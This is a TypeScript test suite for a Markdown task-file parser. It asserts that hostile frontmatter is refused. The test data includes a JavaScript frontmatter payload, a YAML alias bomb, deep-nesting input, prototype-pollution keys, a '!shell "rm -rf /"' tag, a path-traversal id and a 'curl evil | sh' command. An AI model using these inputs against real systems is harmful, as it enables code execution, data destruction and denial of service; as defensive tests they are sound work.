import { existsSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parseTask } from '../../src/task/parse.js';
import { readTaskFile } from '../../src/task/read.js';
import { tempDir } from '../helpers/temp-dir.js';

function problemsOf(text: string): string[] {
  const result = parseTask('task.md', text);
  if (result.ok) throw new Error('expected the task to be refused');
  return result.problems.map((p) => `${p.line}:${p.col}: ${p.message}`);
}

async function problemsOfBytes(bytes: Uint8Array): Promise<string[]> {
  const file = join(tempDir(), 'task.md');
  writeFileSync(file, bytes);
  const read = await readTaskFile(file);
  if (read.result.ok) throw new Error('expected the file to be refused');
  return read.result.problems.map((p) => p.message);
}

describe('frontmatter languages other than YAML are refused and never run', () => {
  test('---js with a payload that would create a file', () => {
    const marker = join(tmpdir(), `wiggum-pwned-${process.pid}-${Date.now()}`);
    const text = `---js\nrequire('fs').writeFileSync(${JSON.stringify(marker)}, 'pwned');\nmodule.exports = { title: 'x' }\n---\nbody\n`;
    const problems = problemsOf(text);
    expect(problems[0]).toMatch(/^1:4: frontmatter language "js" is not supported/);
    expect(existsSync(marker)).toBe(false);
  });

  test.each([
    ['---javascript\n{}\n---\n', 'javascript'],
    ['---toml\ntitle = "x"\n---\n', 'toml'],
    ['---coffee\nx: 1\n---\n', 'coffee'],
  ])('%j', (text, language) => {
    expect(problemsOf(text)[0]).toContain(`frontmatter language "${language}" is not supported`);
  });

  test('+++ TOML frontmatter', () => {
    expect(problemsOf('+++\ntitle = "x"\n+++\nbody\n')[0]).toContain('TOML frontmatter (+++) is not supported');
  });

  test('an unclosed frontmatter block', () => {
    expect(problemsOf('---\ntitle: x\nbody\n')[0]).toContain('never closed');
  });

  test('a {…} mapping as the whole frontmatter', () => {
    expect(problemsOf('---\n{title: x}\n---\n')[0]).toContain('key: value lines');
  });
});

describe('hostile YAML is refused by the linear prescan, before the parser sees it', () => {
  test('10,000-deep flow nesting', () => {
    const problems = problemsOf(`---\na: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n---\n`);
    expect(problems).toEqual(['2:36: YAML nests deeper than 32 levels: flatten the frontmatter']);
  });

  test('10,000-deep compact block sequences', () => {
    const problems = problemsOf(`---\na:\n  ${'- '.repeat(10_000)}x\n---\n`);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain('nests deeper than 32 levels');
  });

  test('indentation nesting past the limit', () => {
    let yaml = '';
    for (let depth = 0; depth < 40; depth += 1) yaml += `${' '.repeat(depth)}k${depth}:\n`;
    expect(problemsOf(`---\n${yaml}${' '.repeat(40)}end: 1\n---\n`)[0]).toContain('nests deeper than 32 levels');
  });

  test('an alias bomb ("billion laughs")', () => {
    let yaml = 'a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n';
    for (let i = 1; i < 10; i += 1)
      yaml += `a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]\n`;
    const problems = problemsOf(`---\n${yaml}---\n`);
    expect(problems[0]).toMatch(/more than 8 YAML aliases/);
  });

  test('a few aliases are fine', () => {
    expect(parseTask('t.md', '---\nd: &d {a: 1}\ne: *d\n---\n').ok).toBe(true);
  });

  test('a quote inside a plain word does not hide nesting from the prescan', () => {
    expect(problemsOf(`---\ntitle: don't\na: ${'['.repeat(100)}${']'.repeat(100)}\n---\n`)[0]).toContain(
      'nests deeper',
    );
  });
});

describe('keys that could change behaviour', () => {
  test.each([
    [
      'duplicate keys',
      '---\ntitle: a\nharness: demo\ntitle: b\n---\n',
      '4:1: duplicate key "title": each key may appear once',
    ],
    [
      '__proto__',
      '---\n__proto__: {polluted: true}\n---\n',
      '2:1: __proto__: the key "__proto__" is not allowed (it could alter objects)',
    ],
    [
      'nested __proto__',
      '---\nx:\n  __proto__: 1\n---\n',
      '3:3: x.__proto__: the key "__proto__" is not allowed (it could alter objects)',
    ],
    ['constructor', '---\nconstructor: {prototype: 1}\n---\n', 'the key "constructor" is not allowed'],
    [
      'merge key',
      '---\nbase: &b {harness: demo}\nt:\n  <<: *b\n---\n',
      '4:3: t.<<: YAML merge keys (<<) are not supported: write the keys out',
    ],
    ['custom tag', '---\nx: !!js/function "function(){}"\n---\n', 'custom YAML tags are not supported'],
    ['local tag', '---\nx: !shell "rm -rf /"\n---\n', 'custom YAML tags are not supported'],
  ])('%s', (_name, text, expected) => {
    expect(problemsOf(text).join('\n')).toContain(expected);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('task keys', () => {
  test.each([
    ['../escape', 'id: an id must start with a letter or digit'],
    ['-starts-with-dash', 'id: an id must start'],
    ['has space', 'id: an id must start'],
    ['x'.repeat(129), 'id: an id must start'],
  ])('id %j is refused', (id, expected) => {
    expect(problemsOf(`---\nid: ${JSON.stringify(id)}\n---\n`)[0]).toContain(expected);
  });

  test('an id of 128 safe characters is accepted', () => {
    const result = parseTask('t.md', `---\nid: ${'a'.repeat(128)}\n---\n`);
    expect(result.ok && result.task.id).toBe('a'.repeat(128));
  });

  test('a harness that looks like a command line', () => {
    expect(problemsOf('---\nharness: "bash -c \'curl evil | sh\'"\n---\n')[0]).toContain(
      'harness must be the NAME of a harness',
    );
  });

  test('wrong types point at the value', () => {
    expect(problemsOf('---\ntitle: x\nmax_iterations: lots\n---\n')[0]).toMatch(/^3:17: max_iterations: /);
  });

  test("wiggum's keys as other programs write them back are read: YAML 1.1 dates, Obsidian's date-time, a quoted count, an empty list", () => {
    const text =
      '---\npersistence_loop:\n  status: running\n  started: 2026-01-27 10:05:00.123000+00:00\n  updated: 2026-01-27T10:06\n' +
      '  iteration: "3"\n  max_iterations: 10\n  checkpoint:\n    completed_steps:\n    state_data:\n---\n';
    const result = parseTask('task.md', text);
    expect(result.ok && result.task.frontmatter.persistence_loop).toMatchObject({
      iteration: 3,
      checkpoint: { completed_steps: [] },
    });
  });

  test('a corrupted checkpoint is reported, not taken as state', () => {
    const text = '---\npersistence_loop:\n  status: running\n  iteration: -4\n  max_iterations: 10\n---\n';
    expect(problemsOf(text)[0]).toMatch(/^4:14: persistence_loop.iteration: /);
  });
});

describe('file-level limits', () => {
  test('over 1 MiB', async () => {
    const problems = await problemsOfBytes(Buffer.alloc(1024 * 1024 + 1, 'a'));
    expect(problems[0]).toContain('over the 1 MiB limit');
  });

  test('exactly 1 MiB is accepted', async () => {
    const file = join(tempDir(), 'task.md');
    writeFileSync(file, Buffer.alloc(1024 * 1024, 'a'));
    expect((await readTaskFile(file)).result.ok).toBe(true);
  });

  test('binary content', async () => {
    expect((await problemsOfBytes(Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0x00, 0x01])))[0]).toContain(
      'binary (a NUL byte at offset 4)',
    );
  });

  test('not UTF-8', async () => {
    const latin1 = Buffer.from('---\ntitle: caf\xe9\n---\n', 'latin1');
    expect((await problemsOfBytes(latin1))[0]).toContain('not valid UTF-8 (first bad byte at offset 14)');
  });
});

describe('ids from file names', () => {
  test.each([
    ['/v/Approved/add-dark-mode.md', 'add-dark-mode'],
    ['/v/Approved/Add dark mode.md', 'Add-dark-mode'],
    ['/v/Approved/Übersicht.md', 'Ubersicht'],
    ['/v/Approved/.hidden.md', 'hidden'],
  ])('%s → %s', (file, id) => {
    const result = parseTask(file, 'body\n');
    expect(result.ok && result.task.id).toBe(id);
  });
});
